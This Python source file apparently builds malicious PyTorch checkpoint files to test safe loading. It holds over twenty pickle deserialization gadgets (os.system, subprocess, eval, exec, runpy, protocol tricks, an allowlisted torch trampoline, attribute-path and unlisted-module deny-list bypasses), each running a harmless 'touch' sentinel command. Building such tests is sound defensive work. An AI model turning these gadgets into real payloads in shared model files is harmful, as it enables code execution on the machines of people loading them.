"""Checkpoint files that would run code if unpickled unsafely: each would create a sentinel file.

Each builder takes the sentinel's path and returns the file's bytes. Building them runs nothing:
pickling only records references to functions. Never give these bytes to `weights_only=False`,
`pickle.loads` or `torch.jit.load`.
"""

from __future__ import annotations

import argparse
import builtins
import io
import os
import pickle
import runpy
import struct
import subprocess
from collections.abc import Callable
from dataclasses import dataclass

import numpy as np
import torch
from torch import nn


class _Reduce:
    """Pickles as ``func(*args)``: the classic __reduce__ gadget."""

    def __init__(self, func, args):
        self.func, self.args = func, args

    def __reduce__(self):
        return self.func, self.args


def _touch(path: str) -> str:
    return f"touch {path}"


def _pyopen(path: str) -> str:
    return f"open({path!r}, 'w').close()"


def _save(obj, **kw) -> bytes:
    buf = io.BytesIO()
    torch.save(obj, buf, **kw)
    return buf.getvalue()


def zip_with_pickle(pkl: bytes) -> bytes:
    """A torch zip checkpoint whose data.pkl is the given pickle (no storages)."""
    buf = io.BytesIO()
    writer = torch._C.PyTorchFileWriter(buf)
    writer.write_record("data.pkl", pkl, len(pkl))
    writer.write_record(".format_version", b"1", 1)
    writer.write_record("byteorder", b"little", 6)
    writer.write_end_of_file()
    del writer
    return buf.getvalue()


class Asm:
    """A tiny protocol-2 pickle assembler (only the opcodes torch's unpickler knows, unless told)."""

    def __init__(self):
        self.out = bytearray(b"\x80\x02")

    def glob(self, module: str, name: str) -> Asm:
        self.out += b"c" + module.encode() + b"\n" + name.encode() + b"\n"
        return self

    def str(self, s: str) -> Asm:
        b = s.encode()
        self.out += b"X" + struct.pack("<I", len(b)) + b
        return self

    def op(self, code: bytes) -> Asm:
        self.out += code
        return self

    def tuple1(self):
        return self.op(b"\x85")

    def tuple2(self):
        return self.op(b"\x86")

    def reduce(self):
        return self.op(b"R")

    def stop(self) -> bytes:
        return bytes(self.out + b".")


def p_os_system_global(s):
    """GLOBAL os.system (written by hand; os.system itself pickles as posix.system) + REDUCE."""
    return zip_with_pickle(Asm().glob("os", "system").str(_touch(s)).tuple1().reduce().stop())


def p_posix_system(s):
    """torch.save of an object whose __reduce__ is (os.system, (cmd,)) -> GLOBAL posix.system."""
    return _save({"state_dict": {}, "x": _Reduce(os.system, (_touch(s),))})


def p_subprocess_popen(s):
    return _save({"state_dict": {}, "x": _Reduce(subprocess.Popen, (["touch", s],))})


def p_builtins_eval(s):
    return _save(_Reduce(builtins.eval, (f"__import__('os').system({_touch(s)!r})",)))


def p_builtins_exec(s):
    return _save(_Reduce(builtins.exec, (_pyopen(s),)))


def p_import_getattr_chain(s):
    """getattr(__import__('os'), 'system')('touch S') as REDUCE chain."""
    a = Asm().glob("builtins", "getattr")
    a.glob("builtins", "__import__").str("os").tuple1().reduce()
    a.str("system").tuple2().reduce()
    return zip_with_pickle(a.str(_touch(s)).tuple1().reduce().stop())


def p_runpy_run_code(s):
    """runpy._run_code(code_string, {}) execs a string."""
    return _save(_Reduce(runpy._run_code, (_pyopen(s), {})))


def p_importlib_import_module(s):
    a = Asm().glob("builtins", "getattr")
    a.glob("importlib", "import_module").str("subprocess").tuple1().reduce()
    a.str("call").tuple2().reduce()
    a.glob("builtins", "list").op(b"]").str("touch").op(b"a").str(s).op(b"a").tuple1().reduce()  # list(['touch', s])
    return zip_with_pickle(a.tuple1().reduce().stop())


def p_functools_partial(s):
    """partial(subprocess.call, ['touch', S]) built by REDUCE, then called with () by REDUCE."""
    a = Asm().glob("functools", "partial").glob("subprocess", "call")
    a.op(b"]").str("touch").op(b"a").str(s).op(b"a").tuple2().reduce()
    return zip_with_pickle(a.op(b")").reduce().stop())


def p_whole_module_nested(s):
    """A whole pickled nn.Module with a gadget in its __dict__ (and in a forward hook dict)."""
    m = nn.Sequential(nn.Conv2d(3, 4, 3), nn.ReLU())
    m.extra_info = _Reduce(subprocess.call, (["touch", s],))
    return _save(m)


def p_lightning_hparams(s):
    ckpt = {
        "epoch": 1,
        "global_step": 10,
        "pytorch-lightning_version": "2.1.2",
        "state_dict": nn.Linear(2, 2).state_dict(),
        "hparams_name": "kwargs",
        "hyper_parameters": {"args": argparse.Namespace(lr=0.1, hook=_Reduce(subprocess.Popen, (["touch", s],)))},
    }
    return _save(ckpt)


def p_optimizer_state(s):
    ckpt = {
        "state_dict": nn.Linear(2, 2).state_dict(),
        "optimizer_states": [
            {
                "state": {0: {"momentum_buffer": _Reduce(subprocess.run, (["touch", s],))}},
                "param_groups": [{"lr": 0.1, "params": [0, 1]}],
            }
        ],
    }
    return _save(ckpt)


def p_legacy_nonzip(s):
    """The pre-1.6 (non-zip) torch format: magic, protocol, sys_info, object pickle, storage keys."""
    return _save(
        {"state_dict": nn.Linear(2, 2).state_dict(), "x": _Reduce(subprocess.call, (["touch", s],))},
        _use_new_zipfile_serialization=False,
    )


def p_legacy_whole_module(s):
    """Legacy format + whole module: module classes travel as persistent ids ('module', cls, file, src)."""
    m = nn.Sequential(nn.Linear(2, 2))
    m.extra = _Reduce(subprocess.call, (["touch", s],))
    return _save(m, _use_new_zipfile_serialization=False)


def p_numpy_object_array(s):
    """numpy object array: ndarray REDUCE + BUILD whose data is a list holding the gadget."""
    arr = np.empty(2, dtype=object)
    arr[0] = 1.5
    arr[1] = _Reduce(subprocess.call, (["touch", s],))
    return _save({"meta": {"hist": arr}, "state_dict": {}})


def p_nested_pickle_loads(s):
    inner = pickle.dumps(_Reduce(os.system, (_touch(s),)), protocol=2)
    return _save({"x": _Reduce(pickle.loads, (inner,))})


def p_rebuild_from_type_trampoline(s):
    """torch._tensor._rebuild_from_type_v2 is allowlisted and calls func(*args): try func=eval."""
    a = Asm().glob("torch._tensor", "_rebuild_from_type_v2")
    a.op(b"(").glob("builtins", "eval").glob("torch", "Tensor").str(f"__import__('os').system({_touch(s)!r})")
    a.tuple1().op(b"}").op(b"t").reduce()
    return zip_with_pickle(a.stop())


def p_attribute_path_bypass(s):
    """GLOBAL 'torch.serialization' 'os.system': plain pickle resolves getattr(torch.serialization,
    'os').system; a blocklist that only checks the module string misses it."""
    return zip_with_pickle(Asm().glob("torch.serialization", "os.system").str(_touch(s)).tuple1().reduce().stop())


def p_py2_builtin_name(s):
    """GLOBAL '__builtin__' 'eval' (Python 2 name; torch maps it to builtins.eval)."""
    return zip_with_pickle(
        Asm().glob("__builtin__", "eval").str(f"__import__('os').system({_touch(s)!r})").tuple1().reduce().stop()
    )


def p_protocol4_stack_global(s):
    """data.pkl written with protocol 4 (FRAME, SHORT_BINUNICODE, STACK_GLOBAL, MEMOIZE)."""
    return zip_with_pickle(pickle.dumps(_Reduce(subprocess.call, (["touch", s],)), protocol=4))


def p_protocol0_inst(s):
    """Protocol-0 INST opcode (find_class + call in one opcode)."""
    return zip_with_pickle(b"(S'" + _touch(s).encode() + b"'\nios\nsystem\n.")


def p_unlisted_gadget(s):
    """A module on no deny list whose function runs a shell: _osx_support._read_output(cmd)."""
    return zip_with_pickle(Asm().glob("_osx_support", "_read_output").str(_touch(s)).tuple1().reduce().stop())


def p_placeholder_call_attempt(s):
    """Tries to make a placeholder *instance* the REDUCE callable (it is not allowlisted)."""
    a = Asm().glob("foo.bar", "Thing").op(b")").reduce()  # placeholder instance
    return zip_with_pickle(a.str(_touch(s)).tuple1().reduce().stop())


@dataclass(frozen=True)
class Payload:
    name: str
    build: Callable[[str], bytes]
    description: str


PAYLOADS: list[Payload] = [
    Payload("os_system_global", p_os_system_global, "hand-written GLOBAL os.system + REDUCE"),
    Payload("posix_system", p_posix_system, "__reduce__ -> os.system, pickled as posix.system"),
    Payload("subprocess_popen", p_subprocess_popen, "subprocess.Popen(['touch', S])"),
    Payload("builtins_eval", p_builtins_eval, "builtins.eval of an os.system string"),
    Payload("builtins_exec", p_builtins_exec, "builtins.exec of open(S,'w')"),
    Payload("import_getattr_chain", p_import_getattr_chain, "getattr(__import__('os'),'system')(cmd)"),
    Payload("runpy_run_code", p_runpy_run_code, "runpy._run_code(code_string, {})"),
    Payload(
        "importlib_import_module", p_importlib_import_module, "getattr(importlib.import_module('subprocess'),'call')"
    ),
    Payload("functools_partial", p_functools_partial, "partial(subprocess.call, argv) then called"),
    Payload("whole_module_nested", p_whole_module_nested, "gadget inside a whole pickled nn.Module"),
    Payload("lightning_hparams", p_lightning_hparams, "gadget inside hyper_parameters' argparse.Namespace"),
    Payload("optimizer_state", p_optimizer_state, "gadget as an optimizer momentum_buffer"),
    Payload("legacy_nonzip", p_legacy_nonzip, "legacy (non-zip) torch file with subprocess.call"),
    Payload("legacy_whole_module", p_legacy_whole_module, "legacy file with a whole module + gadget"),
    Payload("numpy_object_array", p_numpy_object_array, "numpy object array whose element is a gadget"),
    Payload("nested_pickle_loads", p_nested_pickle_loads, "_pickle.loads of an inner os.system pickle"),
    Payload(
        "rebuild_from_type_trampoline", p_rebuild_from_type_trampoline, "allowlisted _rebuild_from_type_v2(eval, ...)"
    ),
    Payload("attribute_path_bypass", p_attribute_path_bypass, "GLOBAL torch.serialization 'os.system'"),
    Payload("py2_builtin_name", p_py2_builtin_name, "GLOBAL __builtin__.eval (mapped to builtins.eval)"),
    Payload("protocol4_stack_global", p_protocol4_stack_global, "protocol-4 STACK_GLOBAL/FRAME data.pkl"),
    Payload("protocol0_inst", p_protocol0_inst, "protocol-0 INST os.system"),
    Payload("unlisted_gadget", p_unlisted_gadget, "_osx_support._read_output(cmd): no deny list names it"),
    Payload("placeholder_call_attempt", p_placeholder_call_attempt, "REDUCE with a placeholder instance as callable"),
]
